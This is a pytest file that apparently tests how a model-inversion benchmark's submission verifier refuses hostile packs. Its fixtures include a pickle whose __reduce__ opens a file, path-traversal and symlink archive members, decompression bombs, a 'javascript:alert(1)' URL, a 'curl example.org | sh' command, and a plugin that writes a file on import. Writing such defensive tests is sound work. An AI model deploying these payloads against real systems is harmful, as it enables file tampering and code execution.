"""Hostile submissions are refused with the reason, and nothing of them runs."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import pickle
import re
import shutil
import socket
import struct
import subprocess
import sys
import tarfile
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from submissions import LOGITS, edit_index, edit_stage, made_pack, one, reseal
from tiny import edit_registry

from mibench.checking.scaffold import PRIOR
from mibench.data.tracked import is_tracked
from mibench.errors import UserError
from mibench.keys import digest, stage_key
from mibench.protocol.method_files import VARIABLE
from mibench.protocol.stage_kinds import STAGE_KINDS
from mibench.records import Seeds
from mibench.registry import Registry
from mibench.submission.archives import unpack
from mibench.submission.contents import Submission
from mibench.submission.keys import tracks
from mibench.submission.layout import Limits, Refused
from mibench.submission.leaks import check_leaks, secrets_here
from mibench.submission.model import Index, TrackPin, read_record
from mibench.submission.strict import read_header, read_json, read_outline
from mibench.submission.verify import verify, verify_path


@pytest.fixture(scope="module")
def honest(tiny_root: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return made_pack(tiny_root, tmp_path_factory.mktemp("honest"), ("re", "re+ls"))


@pytest.fixture
def pack(honest: Path, tmp_path: Path) -> Path:
    shutil.copytree(honest, tmp_path / "pack")
    return tmp_path / "pack"


@pytest.fixture
def refusal(tiny_root: Path, pack: Path) -> Callable[[], tuple[str, str]]:
    """The check that refuses, and its reason."""

    def ask() -> tuple[str, str]:
        last = verify(pack, Registry(tiny_root)).checks[-1]
        assert not last.ok
        return last.name, last.message

    return ask


Ask = Callable[[], tuple[str, str]]


def test_an_honest_submission_verifies(pack: Path, tiny_root: Path) -> None:
    verdict = verify(pack, Registry(tiny_root))
    assert verdict.ok and [check.name for check in verdict.checks][-1] == "figures"
    assert {path.name for path in (pack / "plugins/defenses").iterdir()} == {"none.py", "re.py", "ls.py"}


def test_the_seeds_of_a_run_are_those_of_the_design(tiny_root: Path, tmp_path: Path) -> None:
    """Judges and public priors are the training's or, as in older runs, of seed 0; whoever packs verifies first."""
    made_pack(tiny_root, tmp_path / "new", (), [Seeds.of(1), Seeds.of(1, again=2)])
    made_pack(tiny_root, tmp_path / "old", (), [Seeds(1, 1, 0, 0)])
    for place, other in enumerate((Seeds(1, 1, 1, 2), Seeds(1, 1, 2, 1), Seeds(1, 2, 1, 1))):
        with pytest.raises(UserError, match="is of another seed or track"):
            made_pack(tiny_root, tmp_path / str(place), (), [other])


# --- files ---------------------------------------------------------------------------------------------------------


class Bomb:
    def __reduce__(self) -> tuple[Any, ...]:
        return open, ("sentinel.txt", "w")


def torch_zip() -> bytes:
    buffer = io.BytesIO()
    torch.save({"weight": torch.zeros(2)}, buffer)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (pickle.dumps(Bomb()), "is a pickle"),
        (pickle.dumps(Bomb(), protocol=0), "is not safetensors"),
        (torch_zip(), "is a zip archive, such as torch.save writes"),
        (b"<!DOCTYPE html><title>Quota exceeded</title>", "is a web page"),
        (b"version https://git-lfs.github.com/spec/v1\n", "is a Git LFS pointer"),
        (b"", "is not safetensors"),
    ],
)
def test_weights_that_are_something_else(
    pack: Path, refusal: Ask, content: bytes, said: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    one(pack, "weights/*").write_bytes(content)
    reseal(pack)
    check, reason = refusal()
    assert check == "files" and said in reason and "weights/" in reason
    assert not (tmp_path / "sentinel.txt").exists()


def safetensors(header: Any, data: bytes = b"", length: int | None = None) -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text) if length is None else length) + text + data


def entry(begin: int, end: int, dtype: str = "F32", shape: Any = (1,)) -> dict[str, Any]:
    return {"dtype": dtype, "shape": list(shape), "data_offsets": [begin, end]}


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (safetensors({"a": entry(0, 4)}, b"1234", length=10 * 2**30), "header claims 10,737,418,240 bytes"),
        (safetensors({"a": entry(0, 4)}, b"1234", length=2**64 - 1), "header claims"),
        (safetensors({"a": entry(0, 4), "b": entry(0, 4)}, b"1234"), "overlap or leave gaps"),
        (safetensors({"a": entry(4, 8)}, b"12345678"), "overlap or leave gaps"),
        (safetensors({"a": entry(0, 4)}, b"12345678"), "has 8 bytes of data; its tensors take 4"),
        (safetensors({"a": entry(0, 8)}, b"12345678"), "does not fit its shape"),
        (safetensors({"a": entry(0, 4, shape=(-1,))}, b"1234"), "no sound shape"),
        (safetensors({"a": entry(0, 4, shape=(True,))}, b"1234"), "no sound shape"),
        (safetensors({"a": entry(0, 4, "OBJECT")}, b"1234"), "of type 'OBJECT'"),
        (safetensors({"__metadata__": {"a": "b"}}), "beside its tensors"),
        (safetensors(b'{"a":' * 5000 + b"1" + b"}" * 5000), "not JSON"),
        (safetensors(b'{"a":{"dtype":"F32","shape":[0],"data_offsets":[0,0]},"a":1}'), "names a tensor twice"),
    ],
)
def test_unsound_safetensors(tmp_path: Path, content: bytes, said: str) -> None:
    path = tmp_path / "weights.safetensors"
    path.write_bytes(content)
    with pytest.raises(Refused, match=re.escape(said)):
        read_header(path, "weights.safetensors")


def test_sound_safetensors_are_what_the_library_wrote(tmp_path: Path) -> None:
    from safetensors.torch import save_file

    tensors = {"a": torch.rand(3, 2), "b": torch.zeros(0), "c": torch.tensor(7), "d": torch.rand(5).half()}
    save_file(tensors, tmp_path / "x.safetensors")
    assert read_header(tmp_path / "x.safetensors", "x") == {k: tuple(v.shape) for k, v in tensors.items()}


def test_files_that_do_not_belong(pack: Path, refusal: Ask) -> None:
    (pack / "stages" / "run.sh").write_text("#!/bin/sh\n")
    reseal(pack)
    assert refusal() == (
        "files",
        "'stages/run.sh' does not belong into a submission. Remove it; `mibench submit pack` adds none.",
    )


def test_links_and_pipes(pack: Path, refusal: Ask, tmp_path: Path) -> None:
    (tmp_path / "private.json").write_text("{}")
    path = one(pack, "stages/*.json")
    path.unlink()
    path.symlink_to(tmp_path / "private.json")
    assert refusal()[1].endswith("is a link. A submission holds plain files only.")
    path.unlink()
    os.mkfifo(path)
    assert refusal()[1].endswith("is no plain file. A submission holds plain files only.")
    path.unlink()
    shutil.rmtree(pack / "plugins")
    (pack / "plugins").symlink_to(tmp_path)
    assert "'plugins' is a link" in refusal()[1]


def test_names_that_clash(pack: Path, refusal: Ask) -> None:
    shutil.copy(pack / "plugins/defenses/re.py", pack / "plugins/defenses/RE.py")
    reseal(pack)
    assert "same file on some systems" in refusal()[1]


def test_files_that_are_not_listed_or_differ(pack: Path, refusal: Ask) -> None:
    extra = pack / "weights" / f"{'0' * 64}.safetensors"
    shutil.copy(one(pack, "weights/*"), extra)
    assert refusal()[0] == "hashes" and "is not listed" in refusal()[1]
    reseal(pack)
    assert refusal() == ("outputs", f"weights/{'0' * 64}.safetensors belongs to no stage of the submission.")
    extra.unlink()
    assert refusal()[0] == "hashes" and "but not there" in refusal()[1]
    reseal(pack)
    with (pack / "plugins/defenses/re.py").open("a") as file:
        file.write("# more\n")
    assert refusal()[0] == "hashes" and "re.py is not the file" in refusal()[1]


def test_too_large(pack: Path, tiny_root: Path) -> None:
    registry = Registry(tiny_root)
    with (pack / "plugins/defenses/re.py").open("ab") as file:
        file.truncate(2**20)
    assert "has 1,048,576 bytes; at most 65,536" in verify(pack, registry).checks[-1].message
    assert "more than 5 files" in verify(pack, registry, Limits(files=5)).checks[-1].message
    shutil.rmtree(pack / "plugins")
    assert "together" in verify(pack, registry, Limits(total=1000)).checks[-1].message


# --- JSON ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ('{"a": 1, "a": 2}', "has the key 'a' twice"),
        ('{"b": {"a": 1, "a": 1}}', "has the key 'a' twice"),
        ('{"a": NaN}', "holds NaN"),
        ('{"a": -Infinity}', "holds -Infinity"),
        ('{"a": 1e999}', "not finite"),
        ('{"a": 9223372036854775808}', "more than 63 bits"),
        ('{"a": ' + "1" * 5000 + "}", "is not JSON"),
        ("[" * 100_000 + "]" * 100_000, "nested deeper"),
        ("[" * 30 + "]" * 30, "nested deeper"),
        ('{"a": "' + "x" * 5000 + '"}', "a text of 5,000 characters"),
        ('{"a": "\\u001b[2J"}', "invisible characters"),
        ('{"a": "\\u202egnp"}', "invisible characters"),
        ('{"a": "\\ud800"}', "invisible characters"),
        ('{"a": 1} x', "is not JSON"),
        ('{"a": "\xff"}', None),
    ],
)
def test_json_that_is_not_read(tmp_path: Path, text: str, said: str | None) -> None:
    path = tmp_path / "x.json"
    path.write_text(text, encoding="utf-8")
    if said is None:
        assert read_json(path, "x.json") == {"a": "\xff"}
        path.write_bytes(text.encode("latin-1"))
        said = "is not JSON"
    with pytest.raises(Refused, match=re.escape(said)):
        read_json(path, "x.json")


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda index: index.update(more=1), "'more': Extra inputs"),
        (lambda index: index.pop("weights"), "'weights': Field required"),
        (lambda index: index.update(schema=2), "'schema': Input should be 1"),
        (lambda index: index["files"][0].update(bytes="7"), "'files.0.bytes': Input should be a valid integer"),
        (lambda index: index["weights"][0].update(url="http://example.org/x"), "'weights.0.url': String should match"),
        (lambda index: index["weights"][0].update(url="javascript:alert(1)"), "'weights.0.url': String should match"),
        (lambda index: index["plugins"][0].update(id="../x"), "'plugins.0.id': String should match"),
        (lambda index: index.update(runs=[]), "'runs': List should have at least 1 item"),
    ],
)
def test_an_index_of_another_form(pack: Path, refusal: Ask, change: Callable[[Any], Any], said: str) -> None:
    edit_index(pack, change)
    assert refusal()[0] == "index" and said in refusal()[1]


# --- archives ------------------------------------------------------------------------------------------------------


def test_archives_of_an_honest_submission(pack: Path, tmp_path: Path, tiny_root: Path) -> None:
    for form in ("zip", "tar", "gztar"):
        flat = shutil.make_archive(str(tmp_path / f"flat-{form}"), form, pack)
        nested = shutil.make_archive(str(tmp_path / f"nested-{form}"), form, tmp_path, "pack")
        for archive in (flat, nested):
            verdict = verify_path(Path(archive), Registry(tiny_root))
            assert verdict.ok, verdict.checks[-1]
    Path(flat).write_bytes(Path(flat).read_bytes()[:2000])
    assert "damaged or cut off" in verify_path(Path(flat), Registry(tiny_root)).checks[-1].message


def tar_of(path: Path, *members: tarfile.TarInfo, mode: Any = "w") -> Path:
    with tarfile.open(path, mode) as archive:
        for member in members:
            archive.addfile(member, io.BytesIO(b"x" * member.size) if member.isreg() else None)
    return path


def member(name: str, kind: bytes = tarfile.REGTYPE, target: str = "", size: int = 1) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size = kind, target, size if kind == tarfile.REGTYPE else 0
    return info


@pytest.mark.parametrize(
    ("members", "said"),
    [
        ([member("../outside.txt")], "not a plain path"),
        ([member("a/../../outside.txt")], "not a plain path"),
        ([member("/tmp/outside.txt")], "not a plain path"),
        ([member("a\\..\\b")], "not a plain path"),
        ([member("x", tarfile.SYMTYPE, "/etc/passwd")], "is a link"),
        ([member("d", tarfile.SYMTYPE, ".."), member("d/outside.txt")], "is a link"),
        ([member("a"), member("x", tarfile.LNKTYPE, "a")], "is a link"),
        ([member("x", tarfile.CHRTYPE)], "no plain file"),
        ([member("x", tarfile.FIFOTYPE)], "no plain file"),
        ([member("a"), member("A")], "same file"),
        ([member("a"), member("a")], "same file"),
        ([member("caf\u00e9"), member("cafe\u0301")], "same file"),
        ([member("a", size=3000)], "more than 2,000 bytes"),
        ([member(str(i), size=1900) for i in range(4)], "more than 5,000 bytes"),
        ([member(str(i)) for i in range(12)], "more than 10 files"),
    ],
)
def test_hostile_tars(tmp_path: Path, members: list[tarfile.TarInfo], said: str) -> None:
    (tmp_path / "in").mkdir()
    for mode in ("w", "w:gz"):
        archive = tar_of(tmp_path / "x.tar", *members, mode=mode)
        into = tmp_path / "in" / mode[-1]
        into.mkdir()
        with pytest.raises(Refused, match=said):
            unpack(archive, into, Limits(files=10, file=2000, total=5000))
    assert {path.name for path in tmp_path.iterdir()} == {"in", "x.tar"} and not list(tmp_path.rglob("outside*"))
    assert not Path("/tmp/outside.txt").exists()


def test_a_tar_with_a_giant_header(tmp_path: Path) -> None:
    """Of a pax header everything is kept in memory: what it may be is limited before it is read."""
    big = tarfile.TarInfo("x")
    big.pax_headers = {"comment": "y" * 4 * 2**20}
    archive = tar_of(tmp_path / "x.tar.gz", big, mode="w:gz")
    (tmp_path / "in").mkdir()
    with pytest.raises(Refused, match="in its headers"):
        unpack(archive, tmp_path / "in", Limits())


@pytest.mark.parametrize(
    ("names", "mode", "said"),
    [
        (["../outside.txt"], 0, "not a plain path"),
        (["/tmp/outside.txt"], 0, "not a plain path"),
        (["a", "A"], 0, "same file"),
        (["a", "a/b"], 0, "is a file and"),
        (["x"], 0o120777, "is a link"),
        (["x"], 0o060666, "no plain file"),
    ],
)
def test_hostile_zips(tmp_path: Path, names: list[str], mode: int, said: str) -> None:
    with zipfile.ZipFile(tmp_path / "x.zip", "w") as archive:
        for name in names:
            info = zipfile.ZipInfo(name)
            info.external_attr = mode << 16
            archive.writestr(info, "../../etc/passwd")
    (tmp_path / "in").mkdir()
    with pytest.raises(Refused, match=said):
        unpack(tmp_path / "x.zip", tmp_path / "in", Limits())
    assert list((tmp_path / "in").iterdir()) == []


def test_bombs(tmp_path: Path) -> None:
    """20 MB of zeros in 20 kB, also where the archive claims that it is one byte."""
    zeros = bytes(20 * 2**20)
    with zipfile.ZipFile(tmp_path / "x.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("weights.safetensors", zeros)
    with gzip.open(tmp_path / "x.tar.gz", "wb") as stream:
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w") as tar:
            tar.addfile(member("x", size=len(zeros)), io.BytesIO(zeros))
        stream.write(buffer.getvalue())
    claimed = (tmp_path / "x.zip").read_bytes().replace(struct.pack("<I", len(zeros)), struct.pack("<I", 1))
    (tmp_path / "lies.zip").write_bytes(claimed)
    for name in ("x.zip", "x.tar.gz", "lies.zip"):
        into = tmp_path / f"in-{name}"
        into.mkdir()
        with pytest.raises(Refused, match=r"more than 1,048,576 bytes|damaged"):
            unpack(tmp_path / name, into, Limits(total=2**20))
        assert sum(path.stat().st_size for path in into.rglob("*")) <= 2**20


def test_not_an_archive(tmp_path: Path, tiny_root: Path) -> None:
    (tmp_path / "x.zip").write_text("hello")
    assert "no .zip, .tar or .tar.gz" in verify_path(tmp_path / "x.zip", Registry(tiny_root)).checks[-1].message


# --- changed numbers -----------------------------------------------------------------------------------------------


def better(metrics: dict[str, Any], name: str) -> None:
    """Another value with everything that has to fit it: identities, interval."""
    from mibench.stats import bootstrap_interval

    metric = metrics[name]
    metric["per_identity"] = {key: value / 2 + 0.1 for key, value in metric["per_identity"].items()}
    values = list(metric["per_identity"].values())
    metric["value"] = sum(values) / len(values)
    metric["ci_low"], metric["ci_high"] = bootstrap_interval(values)


def in_the_record(index: dict[str, Any], name: str) -> None:
    for run in index["runs"]:
        better(run["record"]["metrics"], name)
        run |= read_record(run["record"], "the run").public()


def test_a_changed_manifest(pack: Path, refusal: Ask) -> None:
    path = one(pack, "stages/evaluate-*.json")
    path.write_text(path.read_text().replace('"n": 10', '"n": 11', 1))
    assert refusal()[0] == "hashes"
    reseal(pack)
    assert refusal()[0] == "stages" and "its own checksum" in refusal()[1]
    edit_stage(one(pack, "stages/utility-*.json"), lambda data: data.update(seed=0))
    data = json.loads(path.read_text())
    del data["checksum"]
    path.write_text(json.dumps(data | {"checksum": digest(data)}))
    reseal(pack)
    assert refusal()[0] == "records" and "metrics" in refusal()[1]


def test_a_changed_record(pack: Path, refusal: Ask) -> None:
    edit_index(pack, lambda index: index["runs"][0]["metrics"]["att1"].update(value=0.987))
    assert refusal()[0] == "runs" and "one thing beside its record" in refusal()[1]
    edit_index(pack, lambda index: in_the_record(index, "conf"))
    edit_index(
        pack,
        lambda index: index["runs"][0]["metrics"]["att1"].update(
            value=index["runs"][0]["record"]["metrics"]["att1"]["value"]
        ),
    )
    assert refusal()[0] == "records" and "conf" in refusal()[1]


def test_an_older_record_says_less_of_its_stages(pack: Path, tiny_root: Path, refusal: Ask) -> None:
    def older(index: dict[str, Any]) -> None:
        for stage in index["runs"][0]["record"]["stages"]:
            stage.update(inputs=None, device=None)

    edit_index(pack, older)
    assert verify(pack, Registry(tiny_root)).ok
    edit_index(pack, lambda index: index["runs"][0]["record"]["stages"][1].update(device="cuda"))
    assert refusal()[0] == "records" and "stages" in refusal()[1]


@pytest.mark.parametrize("name", ["nat1", "conf", "att1"])
def test_manifest_and_record_changed_alike(pack: Path, refusal: Ask, name: str) -> None:
    for path in pack.glob("stages/evaluate-*.json"):
        edit_stage(path, lambda data: better(data["result"]["metrics"], name))
    edit_index(pack, lambda index: in_the_record(index, name))
    reseal(pack)
    check, reason = refusal()
    assert check == "figures" and f"{name} is" in reason and "single answers gives" in reason


def test_a_metric_without_a_table_must_be_the_mean_of_its_identities(pack: Path, refusal: Ask) -> None:
    for path in pack.glob("stages/evaluate-*.json"):
        edit_stage(path, lambda data: data["result"]["metrics"]["att5"].update(value=0.0, ci_low=0.0, ci_high=0.0))

    def change(index: dict[str, Any]) -> None:
        for run in index["runs"]:
            for metrics in (run["metrics"], run["record"]["metrics"]):
                metrics["att5"].update(value=0.0, ci_low=0.0, ci_high=0.0)

    edit_index(pack, change)
    reseal(pack)
    assert refusal()[0] == "figures" and "att5 is not the mean of its identities" in refusal()[1]


def test_a_metric_without_a_table_must_have_its_identities(pack: Path, refusal: Ask) -> None:
    def without(metrics: dict[str, Any]) -> None:
        metrics["att5"].update(value=0.0, ci_low=None, ci_high=None, per_identity={})

    for path in pack.glob("stages/evaluate-*.json"):
        edit_stage(path, lambda data: without(data["result"]["metrics"]))

    def change(index: dict[str, Any]) -> None:
        for run in index["runs"]:
            without(run["record"]["metrics"])
            run["metrics"]["att5"].update(value=0.0, ci_low=None, ci_high=None)

    edit_index(pack, change)
    reseal(pack)
    assert refusal()[0] == "figures" and "att5 must have its values by identity" in refusal()[1]


def test_another_selection_than_the_attacks(pack: Path, refusal: Ask) -> None:
    """Verdicts may be the evaluator's; which images count as selected is the attack's own table."""
    path = one(pack, "evaluations/*/images.json")
    table = json.loads(path.read_text())
    for item in table:
        item["selected"] = True
    path.write_text(json.dumps(table, indent=1) + "\n")
    key = path.parent.name
    output = {"sha256": hashlib.sha256(path.read_bytes()).hexdigest(), "bytes": path.stat().st_size}
    edit_stage(pack / f"stages/evaluate-{key}.json", lambda data: data["outputs"].update({"images.json": output}))
    reseal(pack)
    assert refusal()[0] == "figures" and "another selection" in refusal()[1]


def test_tables_and_weights_of_something_else(pack: Path, refusal: Ask) -> None:
    first, second = sorted(pack.glob("weights/*"))[:2]
    shutil.copy(first, second)
    reseal(pack)
    assert refusal()[0] == "outputs" and "is not what the manifest of target" in refusal()[1]
    second.unlink()
    reseal(pack)
    assert refusal()[0] == "outputs" and "Pack again" in refusal()[1]


def test_answers_about_other_images(pack: Path, refusal: Ask) -> None:
    """The easy half of the sealed images is not the sealed images."""
    from safetensors.torch import load_file, save_file

    for path in pack.glob(f"evaluations/*/{LOGITS}"):
        answers = load_file(path)
        save_file({name: tensor[::2].contiguous() for name, tensor in answers.items()}, path)
        output = {"sha256": hashlib.sha256(path.read_bytes()).hexdigest(), "bytes": path.stat().st_size}
        stage = pack / f"stages/utility-{path.parent.name}.json"
        edit_stage(stage, lambda data, output=output: data["outputs"].update({LOGITS: output}))
    reseal(pack)
    assert refusal()[0] == "figures" and "2 of each identity are expected" in refusal()[1]


# --- identity ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "change",
    [
        lambda data: data.update(seed=1),
        lambda data: data.update(version=data["version"] + 1),
        lambda data: data["non_default"].update(p=0.5) or data["params"].update(p=0.5),
        lambda data: data.update(plugin="ls"),
        lambda data: data["inputs"].update(evaluator="0" * 64),
    ],
)
def test_wrong_keys(pack: Path, refusal: Ask, change: Callable[[Any], Any]) -> None:
    edit_stage(one(pack, "stages/target-*.json"), change)
    reseal(pack)
    assert refusal()[0] == "keys" and "what it says of itself gives" in refusal()[1]


def test_other_parameters_than_were_computed(pack: Path, refusal: Ask, tiny_root: Path) -> None:
    """A key that was made again for other parameters belongs to no run any more."""
    path = one(pack, "stages/evaluate-*.json")
    track = Registry(tiny_root).track("tiny")

    def change(data: dict[str, Any]) -> None:
        data["non_default"] = data["params"] = {"weights": {}}
        part = track.part(*STAGE_KINDS["evaluate"].track)
        data["key"] = stage_key("evaluate", "engine", data["version"], data["non_default"], 0, part, data["inputs"])

    edit_stage(path, change)
    path.rename(path.with_name(f"evaluate-{json.loads(path.read_text())['key']}.json"))
    reseal(pack)
    assert refusal()[0] == "runs" and "no manifest of its 'evaluate'" in refusal()[1]


def test_a_run_under_another_id(pack: Path, refusal: Ask) -> None:
    def change(index: dict[str, Any]) -> None:
        index["runs"][0]["run"] = index["runs"][0]["record"]["run"] = "0" * 12

    edit_index(pack, change)
    assert refusal()[0] == "runs" and "should be called" in refusal()[1]


def test_a_label_that_asks_for_something_else(pack: Path, refusal: Ask) -> None:
    """What is ranked as the strong setting must be the strong setting."""

    def called(label: str) -> Callable[[dict[str, Any]], None]:
        def change(index: dict[str, Any]) -> None:
            run = next(run for run in index["runs"] if run["defense"] == "re")
            run["defense_label"] = run["record"]["defense_label"] = label

        return change

    edit_index(pack, called("re[p=0.25]"))
    assert refusal()[0] == "runs" and "another 'p' than was computed" in refusal()[1]
    edit_index(pack, called("ls"))
    assert refusal()[0] == "runs" and "is of 're'" in refusal()[1]
    edit_index(pack, called("re[p=1.0]"))
    assert refusal()[0] == "records" and "command" in refusal()[1]


def test_a_command_that_somebody_might_paste(pack: Path, refusal: Ask) -> None:
    edit_index(pack, lambda index: index["runs"][0]["record"].update(command="curl example.org | sh"))
    assert refusal()[0] == "records" and "command in its record is 'curl example.org | sh'" in refusal()[1]


def test_tracks_that_are_not_known_here(pack: Path, refusal: Ask, tmp_path: Path, tiny_root: Path) -> None:
    shutil.copytree(tiny_root, tmp_path / "root", symlinks=True)
    edit_registry(tmp_path / "root", lambda data: data["tracks"]["tiny"]["target"].update(epochs=7))
    last = verify(pack, Registry(tmp_path / "root")).checks[-1]
    assert last.name == "keys" and "gives" in last.message
    edit_registry(tmp_path / "root", lambda data: data["tracks"].pop("tiny"))
    last = verify(pack, Registry(tmp_path / "root")).checks[-1]
    assert last.name == "stages" and last.message.startswith("Track 'tiny' is not known here")


def test_the_split_of_a_data_set_that_is_not_here_is_the_submissions(tmp_path: Path) -> None:
    """Without the data its keys can still be made again, from the split that the submission names."""
    registry = Registry(home=tmp_path)
    name = next(
        name
        for name, track in registry.suite_tracks.items()
        if is_tracked(track) and track.split is None and track.public.source
    )
    version, one, other = registry.suite_tracks[name].version, "ab" * 32, "cd" * 32
    index = Index.model_construct(tracks={name: TrackPin(version=version, split=one, public_split=other)})
    track = tracks(Submission(tmp_path, index), registry)[name]
    assert (track.split, track.public.split) == (one, other)
    index = Index.model_construct(tracks={"orl32": TrackPin(version=registry.track("orl32").version, split=one)})
    with pytest.raises(Refused, match="The data of track orl32 is another split here"):
        tracks(Submission(tmp_path, index), registry)


# --- methods -------------------------------------------------------------------------------------------------------


def test_a_source_that_is_not_the_one_here(pack: Path, tmp_path: Path, tiny_root: Path) -> None:
    """Under the same id and version another method is refused; a newer version here is only worth a note."""
    shutil.copytree(tiny_root, tmp_path / "root", symlinks=True)
    plugin = tmp_path / "root/defenses/re.py"
    text = plugin.read_text()
    plugin.write_text(text + "\n# changed\n")
    last = verify(pack, Registry(tmp_path / "root")).checks[-1]
    assert last.name == "methods" and "has the same version 1" in last.message
    plugin.write_text(text.replace("    class Params", "    version = 2\n\n    class Params", 1))
    verdict = verify(pack, Registry(tmp_path / "root"))
    assert verdict.ok
    assert (
        "Defense re has version 2 here: the runs are of 1."
        in next(c for c in verdict.checks if c.name == "methods").notes
    )


def test_a_source_that_did_not_run(pack: Path, refusal: Ask) -> None:
    with (pack / "plugins/defenses/re.py").open("a") as file:
        file.write("# better\n")
    reseal(pack)
    assert refusal()[0] == "methods" and "not the source that was run" in refusal()[1]


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("x = ", "not Python that can be read"),
        ("(" * 3000, "not Python that can be read"),
        ("-" * 60000 + "1", "not Python that can be read"),
        ("x = 1", "exactly one subclass of Defense; it defines 0"),
        ("class A(Defense): 'a'\nclass B(Defense): 'b'", "it defines 2"),
        ("class A(Defense): pass", "no docstring"),
    ],
)
def test_plugins_that_are_none(tmp_path: Path, text: str, said: str) -> None:
    (tmp_path / "x.py").write_text(text)
    with pytest.raises(Refused, match=re.escape(said)):
        read_outline(tmp_path / "x.py", "x.py", "Defense")


SENTINEL = '''"""Writes a file when it is imported."""

import pathlib

from mibench.contracts import Defense

pathlib.Path("sentinel.txt").write_text("imported")


class Evil(Defense):
    """Nothing."""
'''


def test_nothing_is_imported(tiny_root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = tmp_path / "root"
    shutil.copytree(tiny_root, root, symlinks=True)
    (root / "defenses" / "evil.py").write_text(SENTINEL)
    edit_registry(root, lambda data: data["defenses"].update(evil={"title": "Evil", "kind": "data"}))
    monkeypatch.chdir(tmp_path)
    folder = made_pack(root, tmp_path, ("evil",))
    sentinel = tmp_path / "sentinel.txt"
    assert sentinel.exists()  # its author computed with it
    sentinel.unlink()
    environment = os.environ | {"MIBENCH_ROOT": str(tiny_root), "MIBENCH_HOME": str(tmp_path / "other")}
    for command, where in ((["submit", "verify", str(folder)], tiny_root), (["list"], root)):
        done = subprocess.run(
            [sys.executable, "-m", "mibench", *command],
            env=environment | {"MIBENCH_ROOT": str(where)},
            capture_output=True,
            text=True,
        )
        assert done.returncode == 0 and "evil" in done.stdout, done.stderr
        assert not sentinel.exists()
    assert not list(tmp_path.rglob("sentinel.txt"))


def test_a_prior_of_ones_own_travels_and_the_engines_do_not(
    tiny_root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    mine = tmp_path / "mine.py"
    mine.write_text(PRIOR.format(name="mine", cls="Mine"))
    monkeypatch.setenv(VARIABLE, str(mine))
    folder = made_pack(tiny_root, tmp_path, attack="ppa[prior=mine]")
    monkeypatch.delenv(VARIABLE)
    assert (folder / "plugins/priors/mine.py").read_text() == mine.read_text()
    verdict = verify(folder, Registry(tiny_root))
    assert verdict.ok and "Prior mine is new here" in str(verdict.checks)
    (folder / "plugins/priors/mine.py").unlink()
    edit_index(folder, lambda index: index["plugins"].pop(-1))
    reseal(folder)
    last = verify(folder, Registry(tiny_root)).checks[-1]
    assert (last.name, last.ok) == ("methods", False) and "name the methods of its runs" in last.message


# --- packing -------------------------------------------------------------------------------------------------------


def test_weights_elsewhere_and_images(tiny_root: Path, tmp_path: Path) -> None:
    url = "https://example.org/weights/{key}.safetensors"
    folder = made_pack(tiny_root, tmp_path, ("re",), weights_url=url, images=True)
    index = json.loads((folder / "submission.json").read_text())
    assert not (folder / "weights").exists()
    assert {entry["url"] for entry in index["weights"]} == {
        url.replace("{key}", entry["key"]) for entry in index["weights"]
    }
    assert len(list(folder.glob("images/*/*.png"))) == 20
    verdict = verify(folder, Registry(tiny_root))
    assert verdict.ok and "elsewhere and were not looked at" in verdict.checks[6].message
    one(folder, "images/*/*.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    reseal(folder)
    assert verify(folder, Registry(tiny_root)).checks[-1].name == "outputs"
    for wrong in (
        "https://example.org/weights.safetensors",
        "http://example.org/{key}",
        "https://u:p@example.org/{key}",
    ):
        with pytest.raises(UserError):
            made_pack(tiny_root, tmp_path / "again", ("re",), weights_url=wrong)


def test_a_source_that_changed_since(tiny_root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from submissions import made_runs

    from mibench.submission.pack import gather

    root = tmp_path / "root"
    shutil.copytree(tiny_root, root, symlinks=True)
    runs, store, registry = made_runs(root, tmp_path / "home")
    with (root / "defenses/re.py").open("a") as file:
        file.write("# later\n")
    with pytest.raises(UserError, match="The source of defense re changed since the run was computed"):
        gather(runs, store, registry, {"tiny": registry.track("tiny")})


def test_the_names_of_this_machine_are_found(pack: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(socket, "gethostname", lambda: "brightlab.example.org")
    monkeypatch.setenv("USER", "janedoe")
    secrets = secrets_here(tmp_path / "stored", tmp_path / "checkout")
    assert {"brightlab", "janedoe", str(tmp_path / "stored")} <= secrets.keys()
    names = [path.relative_to(pack).as_posix() for path in pack.rglob("*") if path.is_file()]
    check_leaks(pack, names, secrets)  # the honest one says nothing
    plugin, weights = pack / "plugins/defenses/re.py", one(pack, "weights/*")
    source, data = plugin.read_text(), weights.read_bytes()
    for text in ("Janedoe", "at brightlab,", f"{tmp_path}/stored/x", "/home/someone/data", "C:\\Users\\x"):
        plugin.write_text(f"{source}# {text}\n")
        with pytest.raises(Refused, match=r"plugins/defenses/re\.py holds"):
            check_leaks(pack, names, secrets)
    plugin.write_text(f"{source}# janedoes brightlabs https://example.org/home/x a/b\n")
    check_leaks(pack, names, secrets)
    weights.write_bytes(safetensors({"janedoe": entry(0, 4)}, b"1234"))
    with pytest.raises(Refused, match=r"weights/.* holds your user name"):
        check_leaks(pack, names, secrets)
    weights.write_bytes(data)


def test_a_large_claim_costs_nothing(pack: Path, tiny_root: Path) -> None:
    """A header of 10 GB is refused by its length, before anything is read."""
    path = one(pack, "weights/*")
    path.write_bytes(safetensors({}, b"\0" * 100, length=10 * 2**30))
    reseal(pack)
    tracemalloc.start()
    said = verify(pack, Registry(tiny_root)).checks[-1].message
    most = tracemalloc.get_traced_memory()[1]
